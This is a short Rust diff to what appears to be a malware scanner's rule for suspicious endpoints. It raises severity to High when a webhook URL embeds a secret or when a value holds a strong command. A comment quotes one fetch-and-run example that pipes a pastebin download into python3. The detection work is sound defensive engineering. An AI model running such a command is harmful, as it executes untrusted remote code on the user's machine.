@@ -48,10 +48,13 @@ impl Rule for SuspiciousEndpoint {
                 seen.push(kind);
                 let install = lit.stage == Stage::Install;
                 // A webhook or bot URL with its secret embedded means data goes to the author.
-                let armed = kind == Endpoint::Webhook && !lit.value.contains('{') && embeds_token(&lit.value);
+                let armed = (kind == Endpoint::Webhook && !lit.value.contains('{') && embeds_token(&lit.value))
+                    // `curl -s https://pastebin.com/raw/x | python3`: a fetch-and-run command line.
+                    || (kind != Endpoint::IpLookup && vocab::is_strong_command(&lit.value));
                 let severity = match (kind.is_strong(), lit.stage) {
                     (_, Stage::Auxiliary) => Severity::Low,
                     (true, _) if install || unit.is_payload() || armed => Severity::High,
+                    (false, _) if armed => Severity::High,
                     (true, _) => Severity::Medium,
                     (false, _) if install && kind != Endpoint::IpLookup => Severity::Medium,
                     (false, _) => Severity::Low,
